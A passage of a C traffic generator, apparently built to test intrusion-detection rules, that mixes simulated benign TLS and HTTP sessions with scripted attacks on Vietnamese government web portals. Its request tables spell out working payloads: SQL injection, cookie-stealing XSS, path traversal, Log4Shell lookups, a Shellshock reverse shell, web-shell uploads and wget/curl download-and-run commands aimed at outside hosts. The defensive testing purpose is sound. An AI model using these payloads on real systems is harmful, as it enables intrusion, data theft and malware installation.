        0x00, 0x0b, 0x00, 0x02, 0x01, 0x00, /* ec_point_formats */
        0x00, 0x23, 0x00, 0x00,             /* session_ticket */
        0x00, 0x10, 0x00, 0x0e, 0x00, 0x0c, 0x02, 'h',  '2',  0x08, 'h',  't',  't',  'p',
        '/',  '1',  '.',  '1',  0x00, 0x05, 0x00, 0x05, 0x01, 0x00, 0x00, 0x00, 0x00, /* status_request */
        0x00, 0x0d, 0x00, 0x12, 0x00, 0x10, 0x04, 0x03, 0x08, 0x04, 0x04, 0x01, 0x05, 0x03,
        0x08, 0x05, 0x05, 0x01, 0x08, 0x06, 0x06, 0x01,       /* signature_algorithms */
        0x00, 0x2b, 0x00, 0x05, 0x04, 0x03, 0x04, 0x03, 0x03, /* supported_versions */
        0x00, 0x2d, 0x00, 0x02, 0x01, 0x01,                   /* psk_key_exchange_modes */
    };
    size_t sl = strlen(sni), n = 0;
    uint8_t *h = out + 5; /* handshake message */
    h[0] = 1;
    n = 4;
    h[n++] = 3;
    h[n++] = 3;
    rand_bytes(g, h + n, 32);
    n += 32;
    h[n++] = 32;
    rand_bytes(g, h + n, 32);
    n += 32;
    put16(h + n, sizeof suites);
    n += 2;
    memcpy(h + n, suites, sizeof suites);
    n += sizeof suites;
    h[n++] = 1;
    h[n++] = 0;
    size_t ext = n;
    n += 2;
    put16(h + n, 0);
    put16(h + n + 2, (uint16_t)(sl + 5));
    put16(h + n + 4, (uint16_t)(sl + 3));
    h[n + 6] = 0;
    put16(h + n + 7, (uint16_t)sl);
    memcpy(h + n + 9, sni, sl);
    n += 9 + sl;
    memcpy(h + n, fixed_ext, sizeof fixed_ext);
    n += sizeof fixed_ext;
    put16(h + n, 0x33);
    put16(h + n + 2, 38);
    put16(h + n + 4, 36);
    put16(h + n + 6, 0x1d);
    put16(h + n + 8, 32);
    rand_bytes(g, h + n + 10, 32);
    n += 42;
    put16(h + ext, (uint16_t)(n - ext - 2));
    h[1] = 0;
    put16(h + 2, (uint16_t)(n - 4));
    out[0] = 0x16;
    out[1] = 3;
    out[2] = 1;
    put16(out + 3, (uint16_t)n);
    return n + 5;
}

/* A TLS record of type `type` with n random bytes (encrypted data) at out. */
static size_t tls_record(gen *g, uint8_t *out, uint8_t type, size_t n)
{
    out[0] = type;
    out[1] = 3;
    out[2] = 3;
    put16(out + 3, (uint16_t)n);
    rand_bytes(g, out + 5, n);
    return n + 5;
}

/* HTTPS to a portal: handshake, a request or two, the answers, close. */
static void benign_tls(gen *g)
{
    uint16_t vlan;
    uint32_t rtt;
    ip cli = benign_client(g, &vlan, &rtt);
    const site *s = &SITES[below(&g->r, 3) ? S_PORTAL : S_DVC];
    ip srv = site_ip(s);
    uint8_t *b = (uint8_t *)g->text;
    conn c;
    tcp_open(g, &c, &cli, &srv, 443, vlan, rtt);
    uint8_t csid[32];
    size_t chl = client_hello(g, b, s->host);
    memcpy(csid, b + 5 + 4 + 2 + 32 + 1, 32);
    tcp_send(g, &c, 1, b, chl);
    /* ServerHello, ChangeCipherSpec, the encrypted rest of the server's flight */
    size_t n = 0;
    b[0] = 0x16;
    b[1] = 3;
    b[2] = 3;
    put16(b + 3, 122);
    uint8_t *h = b + 5;
    h[0] = 2;
    h[1] = 0;
    put16(h + 2, 118);
    h[4] = 3;
    h[5] = 3;
    rand_bytes(g, h + 6, 32);
    h[38] = 32;
    memcpy(h + 39, csid, 32); /* the client's session id echoed */
    h[71] = 0x13;
    h[72] = 0x01;
    h[73] = 0;
    put16(h + 74, 46);
    put16(h + 76, 0x2b);
    put16(h + 78, 2);
    put16(h + 80, 0x0304);
    put16(h + 82, 0x33);
    put16(h + 84, 36);
    put16(h + 86, 0x1d);
    put16(h + 88, 32);
    rand_bytes(g, h + 90, 32);
    n = 5 + 122;
    b[n] = 0x14;
    b[n + 1] = 3;
    b[n + 2] = 3;
    put16(b + n + 3, 1);
    b[n + 5] = 1;
    n += 6;
    n += tls_record(g, b + n, 0x17, (size_t)between(&g->r, 2400, 4200));
    g->now_us += between(&g->r, 300, 3 * MS);
    tcp_send(g, &c, 0, b, n);
    int reqs = 1 + (int)below(&g->r, 3);
    for (int i = 0; i < reqs; i++) {
        n = 0;
        if (i == 0) {
            b[0] = 0x14;
            b[1] = 3;
            b[2] = 3;
            put16(b + 3, 1);
            b[5] = 1;
            n = 6;
            n += tls_record(g, b + n, 0x17, 53);
        }
        n += tls_record(g, b + n, 0x17, (size_t)between(&g->r, 350, 700));
        tcp_send(g, &c, 1, b, n);
        g->now_us += between(&g->r, 2 * MS, 40 * MS);
        size_t total = (size_t)between(&g->r, 1500, 12000);
        n = 0;
        while (total) {
            size_t r = total > 4000 ? 4000 : total;
            n += tls_record(g, b + n, 0x17, r);
            total -= r;
        }
        tcp_send(g, &c, 0, b, n);
        g->now_us += between(&g->r, 2 * MS, 60 * MS);
    }
    tcp_close(g, &c, 1);
}

static void benign_session(gen *g)
{
    uint32_t u = below(&g->r, 100);
    if (u < 72)
        benign_http(g);
    else if (u < 88)
        benign_dns(g);
    else
        benign_tls(g);
}

/* ---- the schedule: attack scenarios embedded in benign traffic ------------ */

typedef struct scen scen;
/* Performs step s->step of a scenario at g->now_us; returns the delay to the
 * next step in microseconds, or -1 when the scenario is over. */
typedef int64_t (*step_fn)(gen *g, scen *s);

struct scen {
    step_fn fn;
    uint64_t next_us;
    uint32_t step;
    ip atk, tgt;     /* chosen by the scenario at step 0 */
    uint32_t n;      /* scenario's own counter */
    uint32_t rtt;    /* the attacker's round trip */
    const void *arg; /* its scen_spec's arg */
    int active;
};

typedef struct scen_spec {
    step_fn fn;
    uint32_t start_s; /* offset in the round */
    const void *arg;
} scen_spec;

/* ---- attacks over HTTP ------------------------------------------------------ */

/* One request of an attack and the rules it triggers (its packet: it must
 * fit in one TCP segment, as the engine inspects one packet at a time). */
typedef struct hreq {
    const char *method, *path;
    const char *ua;           /* NULL: a browser's */
    const char *extra;        /* more header lines, each ending in \r\n */
    const char *ctype, *body; /* a request body */
    const char *status;       /* the portal's answer; NULL: "404 Not Found" */
    uint32_t sids[4];         /* rules the request triggers */
} hreq;

/* A short answer page of the portal for status into g->text */
static size_t short_response(gen *g, const site *s, const char *status, int close)
{
    size_t n = 0;
    const char *msg = status + 4;
    if (!strncmp(status, "200", 3))
        cat(g->body, sizeof g->body, &n,
            "<!DOCTYPE html>\n<html lang=\"vi\"><head><meta charset=\"utf-8\">"
            "<title>Kết quả</title></head><body><p>Không tìm thấy dữ liệu phù "
            "hợp.</p></body></html>\n");
    else
        cat(g->body, sizeof g->body, &n,
            "<html>\r\n<head><title>%s</title></head>\r\n<body>\r\n"
            "<center><h1>%s</h1></center>\r\n<hr><center>%s</center>\r\n</body>\r\n</html>\r\n",
            status, msg, s->server);
    return http_response(g, s, status, "text/html; charset=utf-8", n, close);
}

/* The request r into g->text (method NULL: path is the whole request) */
static size_t attack_request(gen *g, const site *s, const hreq *r, const char *ua)
{
    char host[80];
    size_t n = 0, cap = sizeof g->text;
    if (!r->method) {
        cat(g->text, cap, &n, "%s", r->path);
        return n;
    }
    host_of(s, host, sizeof host);
    cat(g->text, cap, &n, "%s %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nAccept: */*\r\n%s",
        r->method, r->path, host, r->ua ? r->ua : ua, r->extra ? r->extra : "");
    if (r->body)
        cat(g->text, cap, &n, "Content-Type: %s\r\nContent-Length: %zu\r\n", r->ctype,
            strlen(r->body));
    cat(g->text, cap, &n, "Connection: keep-alive\r\n\r\n%s", r->body ? r->body : "");
    if (n > MSS) {
        fprintf(stderr, "gen_traffic: internal error: request %s %.40s does not fit a segment\n",
                r->method, r->path);
        abort();
    }
    return n;
}

/* Sends r on c (client = attacker) with the expected alerts, then the answer. */
static void attack_on(gen *g, conn *c, const site *s, const hreq *r, const char *ua)
{
    size_t n = attack_request(g, s, r, ua);
    tcp_send(g, c, 1, g->text, n);
    for (int i = 0; i < 4 && r->sids[i]; i++)
        expect_c(g, r->sids[i], c, 1);
    g->now_us += between(&g->r, 1 * MS, 25 * MS);
    n = short_response(g, s, r->status ? r->status : "404 Not Found", 0);
    tcp_send(g, c, 0, g->text, n);
}

/* An attack sequence: requests of one attacker to one portal, a connection
 * each (or `keep` requests per connection), repeated `reps` times. */
typedef struct seq_arg {
    const hreq *reqs;
    uint32_t nreq, reps, keep;
    uint8_t site;
    uint8_t who; /* 0 foreign, 1 Vietnamese network, 2 IPv6, 3 agency (VLAN 210) */
    uint32_t gap_min_ms, gap_max_ms;
    const char *ua; /* the tool's user agent; NULL: a browser's */
} seq_arg;

static const char *const BROWSER_UA =
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/120.0.0.0 Safari/537.36";

static ip attacker6(gen *g)
{
    ip x = ip6("2a03:b0c0:3:d0::1f4a:1");
    x.a[14] = (uint8_t)below(&g->r, 256);
    x.a[15] = (uint8_t)between(&g->r, 1, 255);
    return x;
}

/* The attack sequence of a seq_arg: one connection per step. */
static int64_t step_seq(gen *g, scen *s)
{
    const seq_arg *a = s->arg;
    const site *st = &SITES[a->site];
    if (s->step == 0) {
        if (a->who == 2) {
            s->atk = attacker6(g);
            s->tgt = ip6("fd00:2200:0:1::");
            s->tgt.a[15] = (uint8_t)(st->last / 10 << 4 | st->last % 10); /* ::10 for .10 */
        } else if (a->who == 3) {
            s->atk = ip4(10, 21, (uint8_t)between(&g->r, 1, 5), (uint8_t)between(&g->r, 20, 250));
            s->tgt = site_ip(st);
        } else {
            s->atk = a->who == 1 ? vn_client_ip(&g->r) : public_ip(&g->r);
            s->tgt = site_ip(st);
        }
        s->rtt = (uint32_t)(a->who == 3       ? between(&g->r, 1 * MS, 4 * MS)
                                : a->who == 1 ? between(&g->r, 10 * MS, 40 * MS)
                                              : between(&g->r, 70 * MS, 280 * MS));
    }
    uint32_t total = a->nreq * (a->reps ? a->reps : 1), keep = a->keep ? a->keep : 1;
    conn c;
    tcp_open(g, &c, &s->atk, &s->tgt, st->port, a->who == 3 ? 210 : 0, s->rtt);
    for (uint32_t k = 0; k < keep && s->n < total; k++, s->n++) {
        if (k)
            g->now_us += between(&g->r, 2 * MS, 60 * MS);
        attack_on(g, &c, st, &a->reqs[s->n % a->nreq], a->ua ? a->ua : BROWSER_UA);
    }
    g->now_us += between(&g->r, 1 * MS, 30 * MS);
    tcp_close(g, &c, 1);
    if (s->n >= total)
        return -1;
    return (int64_t)between(&g->r, a->gap_min_ms, a->gap_max_ms) * (int64_t)MS;
}

/* ---- web.rules: attacks on the portals ---------------------------------------- */

/* Manual SQL injection on the case lookup of the public-services portal. */
static const hreq WEB_SQLI[] = {
    { "GET",
      "/tra-cuu-ho-so?maHoSo=000.00.25.H57-251120-0012%27%20OR%20%271%27%3D%271",
      NULL,
      NULL,
      NULL,
      NULL,
      "200 OK",
      { 9100102 } },
    { "GET",
      "/tra-cuu-ho-so?maHoSo=1%27%20UNION%20SELECT%20NULL%2CNULL%2CNULL--%20-",
      NULL,
      NULL,
      NULL,
      NULL,
      "500 Internal Server Error",
      { 9100101 } },
    { "GET",
      "/tra-cuu-ho-so?maHoSo=1%27%20UNION%20ALL%20SELECT%20table_name%2C2%2C3%20FROM%20"
      "information_schema.tables--%20-",
      NULL,
      NULL,
      NULL,
      NULL,
      "200 OK",
      { 9100101, 9100105 } },
    { "GET",
      "/tra-cuu-ho-so?maHoSo=1%27%20AND%20SLEEP(5)--%20-",
      NULL,
      NULL,
      NULL,
      NULL,
      "200 OK",
      { 9100103 } },
    { "GET",
      "/tra-cuu-ho-so?maHoSo=1%20AND%20BENCHMARK(5000000%2CMD5(0x41))",
      NULL,
      NULL,
      NULL,
      NULL,
      "200 OK",
      { 9100104 } },
    { "GET",
      "/tra-cuu-ho-so?maHoSo=1%3BDROP%20TABLE%20hoso_tiepnhan--",
      NULL,
      NULL,
      NULL,
      NULL,
      "500 Internal Server Error",
      { 9100106 } },
    { "GET",
      "/tra-cuu-ho-so?maHoSo=1%3BEXEC%20master..xp_cmdshell%20%27whoami%27--",
      NULL,
      NULL,
      NULL,
      NULL,
      "500 Internal Server Error",
      { 9100107 } },
    { "POST",
      "/tra-cuu-ho-so",
      NULL,
      "Origin: http://dichvucong.tuyenquang.gov.vn\r\n",
      "application/x-www-form-urlencoded",
      "maHoSo=x%27+or+%27a%27%3D%27a&captcha=4821",
      "200 OK",
      { 9100102 } },
};
static const seq_arg ARG_WEB_SQLI = { WEB_SQLI, 8, 2, 1, S_DVC, 1, 4000, 25000, NULL };

/* Cross-site scripting probes on the main portal's search and comment forms. */
static const hreq WEB_XSS[] = {
    { "GET",
      "/tim-kiem?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
      NULL,
      NULL,
      NULL,
      NULL,
      "200 OK",
      { 9100108 } },
    { "GET",
      "/lien-he?returnUrl=javascript:alert(document.domain)",
      NULL,
      NULL,
      NULL,
      NULL,
      "200 OK",
      { 9100109 } },
    { "GET",
      "/tim-kiem?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
      NULL,
      NULL,
      NULL,
      NULL,
      "200 OK",
      { 9100110 } },
    { "POST",
      "/hoi-dap/gui-cau-hoi",
      NULL,
      "Referer: http://tuyenquang.gov.vn/hoi-dap\r\n",
      "application/x-www-form-urlencoded",
      "ho_ten=Nguyen+Van+A&noi_dung=<script>new "
      "Image().src='//xss.report/c/tq?'+document.cookie</script>",
      "200 OK",
      { 9100108 } },
};
static const seq_arg ARG_WEB_XSS = { WEB_XSS, 4, 2, 1, S_PORTAL, 0, 3000, 20000, NULL };

/* Path traversal on the police portal's document download. */
static const hreq WEB_TRAV[] = {
    { "GET",
      "/tai-lieu/download.aspx?file=../../../../etc/passwd",
      NULL,
      NULL,
      NULL,
      NULL,
      "400 Bad Request",
      { 9100111, 9100113 } },
    { "GET",
      "/tai-lieu/download.aspx?file=%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
      NULL,
      NULL,
      NULL,
      NULL,
      "400 Bad Request",
      { 9100112 } },
    { "GET",
      "/tai-lieu/download.aspx?file=..%5c..%5c..%5cwindows%5cwin.ini",
      NULL,
      NULL,
      NULL,
      NULL,
      "400 Bad Request",
      { 9100114 } },
    { "GET",
      "/tai-lieu/download.aspx?file=....//....//etc/passwd",
      NULL,
      NULL,
      NULL,
      NULL,
      "400 Bad Request",
      { 9100113 } },
};
static const seq_arg ARG_WEB_TRAV = { WEB_TRAV, 4, 2, 1, S_CONGAN, 0, 2000, 15000, NULL };

/* Log4Shell probes (headers, obfuscated, URL-encoded) */
static const hreq WEB_LOG4J[] = {
    { "GET",
      "/",
      "${jndi:ldap://194.165.16.72:1389/Basic/Command/Base64/d2dldCBodHRwOi8vMTk0LjE2NS4xNi43Mi9s}",
      "X-Api-Version: "
      "${jndi:ldap://194.165.16.72:1389/Basic/Command/Base64/"
      "d2dldCBodHRwOi8vMTk0LjE2NS4xNi43Mi9s}\r\n",
      NULL,
      NULL,
      "200 OK",
      { 9100115 } },
    { "GET",
      "/dang-nhap",
      NULL,
      "X-Forwarded-For: "
      "${${lower:j}${lower:n}${lower:d}i:${lower:r}mi://45.155.205.233:1099/Exploit}\r\n",
      NULL,
      NULL,
      "200 OK",
      { 9100116 } },
    { "GET",
      "/tim-kiem?q=%24%7Bjndi%3Aldap%3A%2F%2F194.165.16.72%3A1389%2Fa%7D",
      NULL,
      NULL,
      NULL,
      NULL,
      "200 OK",
      { 9100117 } },
};
static const seq_arg ARG_WEB_LOG4J = { WEB_LOG4J, 3, 2, 1, S_DVC, 0, 500, 4000, NULL };
static const seq_arg ARG_WEB_LOG4J_PORTAL = { WEB_LOG4J, 3, 1, 1, S_PORTAL, 0, 500, 4000, NULL };
/* the same over IPv6, to the portal's IPv6 address */
static const seq_arg ARG_WEB_LOG4J_V6 = { WEB_LOG4J, 3, 1, 1, S_PORTAL, 2, 800, 6000, NULL };

/* Shellshock in User-Agent and Referer on CGI paths */
static const hreq WEB_SHELLSHOCK[] = {
    { "GET",
      "/cgi-bin/status",
      "() { :; }; /bin/bash -c 'id'",
      NULL,
      NULL,
      NULL,
      "404 Not Found",
      { 9100118 } },
    { "GET",
      "/cgi-bin/test-cgi",
      "Mozilla/5.0",
      "Referer: () { ignored;};/bin/bash -i >& /dev/tcp/91.92.241.10/4444 0>&1\r\n",
      NULL,
      NULL,
      "404 Not Found",
      { 9100118 } },
};
static const seq_arg ARG_WEB_SHELLSHOCK = {
    WEB_SHELLSHOCK, 2, 2, 1, S_SOTTTT, 0, 1000, 9000, NULL
};

/* A web shell dropped through the WordPress file manager (CVE-2020-25213), then used. */
static const hreq WEB_SHELL[] = {
    { "POST",
      "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php",
      NULL,
      NULL,
      "multipart/form-data; boundary=----WebKitFormBoundaryq7zKp3XVnD2mT9eL",
      "------WebKitFormBoundaryq7zKp3XVnD2mT9eL\r\nContent-Disposition: form-data; "
      "name=\"cmd\"\r\n\r\n"
      "upload\r\n------WebKitFormBoundaryq7zKp3XVnD2mT9eL\r\nContent-Disposition: form-data; "
      "name=\"target\"\r\n\r\nl1_Lw\r\n------WebKitFormBoundaryq7zKp3XVnD2mT9eL\r\nContent-"
      "Disposition: "
      "form-data; name=\"upload[]\"; filename=\"wp-cache.php\"\r\nContent-Type: "
      "application/octet-stream"
      "\r\n\r\n<?php if(isset($_REQUEST['c'])){system($_REQUEST['c']);} ?>\r\n"
      "------WebKitFormBoundaryq7zKp3XVnD2mT9eL--\r\n",
      "200 OK",
      { 9100119 } },
    { "POST",
      "/wp-content/plugins/wp-file-manager/lib/files/wp-cache.php",
      NULL,
      NULL,
      "application/x-www-form-urlencoded",
      "z0=@eval(base64_decode($_POST[z1]));&z1="
      "QGluaV9zZXQoImRpc3BsYXlfZXJyb3JzIiwiMCIpO2VjaG8gJ09LJzs%3D",
      "200 OK",
      { 9100120 } },
    { "POST",
      "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php",
      NULL,
      NULL,
      "multipart/form-data; boundary=----WebKitFormBoundaryR4nd0mB374k",
      "------WebKitFormBoundaryR4nd0mB374k\r\nContent-Disposition: form-data; name=\"cmd\"\r\n\r\n"
      "upload\r\n------WebKitFormBoundaryR4nd0mB374k\r\nContent-Disposition: form-data; "
      "name=\"upload[]\"; filename=\"b374k.php\"\r\nContent-Type: application/x-php\r\n\r\n"
      "<?php /* b374k shell 3.2.3 */ $GLOBALS['pass'] = \"6c8e2b1d\"; $func = "
      "\"cr\".\"eat\".\"e_fun\"."
      "\"cti\".\"on\"; $b374k = $func('$x', "
      "'ev'.'al(\"?>\".gz'.'inflate(ba'.'se64'.'_de'.'code($x)));');"
      " ?>\r\n------WebKitFormBoundaryR4nd0mB374k--\r\n",
      "200 OK",
      { 9100119, 9100121 } },
    { "POST",
      "/wp-content/plugins/wp-file-manager/lib/files/wp-cache.php",
      NULL,
      NULL,
      "application/x-www-form-urlencoded",
      "z0=@eval(base64_decode($_POST[z1]));&z1=c3lzdGVtKCJ1bmFtZSAtYSIpOw%3D%3D",
      "200 OK",
      { 9100120 } },
};
static const seq_arg ARG_WEB_SHELL = { WEB_SHELL, 4, 1, 1, S_SOTTTT, 0, 20000, 90000, NULL };

/* OS command injection on the connectivity check of the public-services portal,
 * and the Mirai-style "shell" exploitation on 8080. */
static const hreq WEB_CMDI[] = {
    { "GET",
      "/tien-ich/kiem-tra-ket-noi?host=8.8.8.8%3Bcat%20/etc/shadow",
      NULL,
      NULL,
      NULL,
      NULL,
      "200 OK",
      { 9100122 } },
    { "GET",
      "/tien-ich/kiem-tra-ket-noi?host=127.0.0.1%7Cwget%20http://103.145.13.22/mips%20-O%20/tmp/.m",
      NULL,
      NULL,
      NULL,
      NULL,
      "200 OK",
      { 9100123 } },
    { "GET",
      "/tien-ich/kiem-tra-ket-noi?host=%24%28curl%20-s%20http://103.145.13.22/x.sh%7Csh%29",
      NULL,
      NULL,
      NULL,
      NULL,
      "200 OK",
      { 9100124 } },
    { "POST",
      "/tien-ich/kiem-tra-ket-noi",
      "curl/8.4.0",
      NULL,
      "application/x-www-form-urlencoded",
      "host=8.8.8.8`id`&count=1",
      "200 OK",
      { 9100125 } },
    { "POST",
      "/tien-ich/kiem-tra-ket-noi",
      "curl/8.4.0",
      NULL,
      "application/x-www-form-urlencoded",
      "host=`whoami`",
      "200 OK",
      { 9100125 } },
};
static const seq_arg ARG_WEB_CMDI = { WEB_CMDI, 5, 2, 1, S_DVC, 0, 3000, 30000, NULL };

static const hreq WEB_MIRAI[] = {
    { "GET",
      "/shell?cd+/tmp;rm+-rf+*;wget+http://103.145.13.22/jaws;sh+/tmp/jaws",
      "Hello, world",
      NULL,
      NULL,
      NULL,
      "404 Not Found",
      { 9100123 } },
};
static const seq_arg ARG_WEB_MIRAI = { WEB_MIRAI, 1, 3, 1, S_SOTTTT, 0, 30000, 120000, NULL };

/* ---- scan.rules: scanners and reconnaissance ----------------------------------- */

#define SQLMAP_UA "sqlmap/1.7.11#stable (https://sqlmap.org)"
/* sqlmap on the case lookup: detection, boolean, time-based and UNION phases */
static const hreq SCAN_SQLMAP[] = {
    { "GET", "/tra-cuu-ho-so?maHoSo=1", NULL, NULL, NULL, NULL, "200 OK", { 9100201 } },
    { "GET",
      "/tra-cuu-ho-so?maHoSo=1%29%28%27%22.%2C%2C%28%27",
      NULL,
      NULL,
      NULL,
      NULL,
      "500 Internal Server Error",
      { 9100201 } },
    { "GET",
      "/tra-cuu-ho-so?maHoSo=1%27%29%20AND%208412%3D8412%20AND%20%28%27Xrcz%27%3D%27Xrcz",
      NULL,
      NULL,
      NULL,
      NULL,
      "200 OK",
      { 9100201, 9100102 } },
    { "GET",
      "/tra-cuu-ho-so?maHoSo=1%27%20AND%20%28SELECT%204376%20FROM%20%28SELECT%28SLEEP%285%29%29"
      "%29xYzA%29--%20bWfK",
      NULL,
      NULL,
      NULL,
      NULL,
      "200 OK",
      { 9100201, 9100103 } },
    { "GET",
      "/tra-cuu-ho-so?maHoSo=1%27%20UNION%20ALL%20SELECT%20NULL%2CCONCAT%280x7178627a71%2C"
      "0x4a6b5a4e6f%2C0x716b6a7171%29%2CNULL--%20-",
      NULL,
      NULL,
      NULL,
      NULL,
      "200 OK",
      { 9100201, 9100101 } },
    { "GET",
      "/tra-cuu-ho-so?maHoSo=1%27%20UNION%20ALL%20SELECT%20NULL%2Cschema_name%2CNULL%20FROM%20"
      "INFORMATION_SCHEMA.SCHEMATA--%20-",
      NULL,
      NULL,
      NULL,
      NULL,
      "200 OK",
      { 9100201, 9100101, 9100105 } },
};
static const seq_arg ARG_SCAN_SQLMAP = { SCAN_SQLMAP, 6, 3, 3, S_DVC, 0, 1500, 6000, SQLMAP_UA };

/* Nikto on the police portal */
static const hreq SCAN_NIKTO[] = {
    { "GET",
      "/",
      "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)",
      NULL,
      NULL,
      NULL,
      "200 OK",
      { 9100202 } },
    { "GET",
      "/phpinfo.php",
      "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000405)",
      NULL,
      NULL,
      NULL,
      NULL,
      { 9100202 } },
    { "GET",
      "/../../../../../../etc/passwd",
      "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000120)",
      NULL,
      NULL,
      NULL,
      "400 Bad Request",
      { 9100202, 9100111, 9100113 } },
    { "GET",
      "/.git/HEAD",
      "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:007012)",
      NULL,
      NULL,
      NULL,
      NULL,
      { 9100202, 9100209 } },
    { "GET",
      "/server-status",
      "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:003233)",
      NULL,
      NULL,
      NULL,
      "403 Forbidden",
      { 9100202 } },
    { "GET",
      "/backup.sql",
      "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:006551)",
      NULL,
      NULL,
      NULL,
      NULL,
      { 9100202 } },
    { "GET",
      "/admin/login.php",
      "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:001126)",
      NULL,
      NULL,
      NULL,
      NULL,
      { 9100202 } },
};
static const seq_arg ARG_SCAN_NIKTO = { SCAN_NIKTO, 7, 2, 4, S_CONGAN, 0, 800, 5000, NULL };

#define NSE_UA "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"
/* nmap -sV --script http-enum,http-git on the main portal */
static const hreq SCAN_NMAP[] = {
    { "GET", "/", NULL, NULL, NULL, NULL, "200 OK", { 9100203 } },
    { "GET", "/robots.txt", NULL, NULL, NULL, NULL, "200 OK", { 9100203 } },
    { "GET", "/nmaplowercheck1763971234", NULL, NULL, NULL, NULL, NULL, { 9100203 } },
    { "GET", "/.git/HEAD", NULL, NULL, NULL, NULL, NULL, { 9100203, 9100209 } },
    { "GET", "/HNAP1", NULL, NULL, NULL, NULL, NULL, { 9100203 } },
};
static const seq_arg ARG_SCAN_NMAP = { SCAN_NMAP, 5, 1, 5, S_PORTAL, 0, 500, 2000, NSE_UA };

/* Acunetix on the public-services portal */
#define ACX_HDR                                                                          \
    "Acunetix-Product: WVS/14.0 (Acunetix Web Vulnerability Scanner - Free Edition)\r\n" \
    "Acunetix-Scanning-agreement: Third Party Scanning PROHIBITED\r\n"                   \
    "Acunetix-User-agreement: http://www.acunetix.com/wvs/disc.htm\r\n"
static const hreq SCAN_ACUNETIX[] = {
    { "GET",
      "/acunetix-wvs-test-for-some-inexistent-file",
      NULL,
      ACX_HDR,
      NULL,
      NULL,
      NULL,
      { 9100205 } },
    { "GET", "/huong-dan-su-dung", NULL, ACX_HDR, NULL, NULL, "200 OK", { 9100205 } },
    { "GET",
      "/tim-kiem?q=1%27%22%28%29%26%25%3Cacx%3E%3CScRiPt%20%3Ealert(9352)%3C/ScRiPt%3E",
      NULL,
      ACX_HDR,
      NULL,
      NULL,
      "200 OK",
      { 9100205, 9100108 } },
    { "GET",
      "/tra-cuu-ho-so?maHoSo=-1%20OR%203%2B459-459-1%3D0%2B0%2B0%2B1",
      NULL,
      ACX_HDR,
      NULL,
      NULL,
      "200 OK",
      { 9100205 } },
    { "GET",
      "/thu-tuc-hanh-chinh?linhVuc=..%2F..%2F..%2F..%2F..%2F..%2F..%2Fwindows%2Fwin.ini",
      NULL,
      ACX_HDR,
      NULL,
      NULL,
      "200 OK",
      { 9100205, 9100114 } },
    { "GET", "/dich-vu-cong-truc-tuyen", NULL, ACX_HDR, NULL, NULL, "200 OK", { 9100205 } },
    { "GET", "/hoi-dap?page=1%27%22", NULL, ACX_HDR, NULL, NULL, "200 OK", { 9100205 } },
};
static const seq_arg ARG_SCAN_ACUNETIX = {
    SCAN_ACUNETIX,
    7,
    2,
    2,
    S_DVC,
    0,
    2000,
    12000,
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.21 (KHTML, like Gecko) "
    "Chrome/41.0.2228.0 Safari/537.21"
};

#define WPSCAN_UA "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"
/* WPScan on the WordPress site of the Department of Information and Communications */
static const hreq SCAN_WPSCAN[] = {
    { "GET", "/", NULL, NULL, NULL, NULL, "200 OK", { 9100207 } },
    { "GET", "/wp-login.php", NULL, NULL, NULL, NULL, "200 OK", { 9100207 } },
    { "GET", "/readme.html", NULL, NULL, NULL, NULL, "200 OK", { 9100207 } },
    { "GET", "/wp-json/wp/v2/users", NULL, NULL, NULL, NULL, "200 OK", { 9100207 } },
    { "GET",
      "/wp-content/plugins/wp-file-manager/readme.txt",
      NULL,
      NULL,
      NULL,
      NULL,
      "200 OK",
      { 9100207 } },
    { "HEAD", "/xmlrpc.php", NULL, NULL, NULL, NULL, "405 Method Not Allowed", { 9100207 } },
    { "GET", "/wp-content/debug.log", NULL, NULL, NULL, NULL, NULL, { 9100207 } },
};
static const seq_arg ARG_SCAN_WPSCAN = { SCAN_WPSCAN, 7, 1, 3, S_SOTTTT, 0, 700, 3000, WPSCAN_UA };

/* Somebody looking for a deployed .git folder on two portals */
static const hreq SCAN_GIT[] = {
    { "GET", "/.git/config", NULL, NULL, NULL, NULL, NULL, { 9100209 } },
    { "GET", "/.git/HEAD", NULL, NULL, NULL, NULL, NULL, { 9100209 } },
    { "HEAD", "/.git/index", NULL, NULL, NULL, NULL, NULL, { 9100209 } },
    { "GET", "/.git/logs/HEAD", NULL, NULL, NULL, NULL, NULL, { 9100209 } },
};
static const seq_arg ARG_SCAN_GIT = { SCAN_GIT, 4,        1,
                                      1,        S_PORTAL, 0,
                                      200,      2000,     "Go-http-client/1.1" };
static const seq_arg ARG_SCAN_GIT2 = { SCAN_GIT, 4,     2,
                                       2,        S_DVC, 0,
                                       300,      3000,  "Mozilla/5.0 (X11; Linux x86_64)" };

/* Banner grabs of internet-wide scanners (masscan, ZGrab) on every web server
 * of HOME_NET they reach: one scanner, several targets. */
typedef struct grab_arg {
    const char *req; /* the whole request */
    uint32_t sid;
    uint8_t n; /* targets */
    uint8_t tgt[6][4];
    uint16_t port[6];
    uint32_t reps;
} grab_arg;

static int64_t step_grab(gen *g, scen *s)
{
    const grab_arg *a = s->arg;
    if (s->step == 0) {
        s->atk = public_ip(&g->r);
        s->rtt = (uint32_t)between(&g->r, 90 * MS, 250 * MS);
    }
    uint32_t i = s->n % a->n;
    ip dst = ip4(a->tgt[i][0], a->tgt[i][1], a->tgt[i][2], a->tgt[i][3]);
    conn c;
    tcp_open(g, &c, &s->atk, &dst, a->port[i], 0, s->rtt);
    size_t n = strlen(a->req);
    tcp_send(g, &c, 1, a->req, n);
    expect_c(g, a->sid, &c, 1);
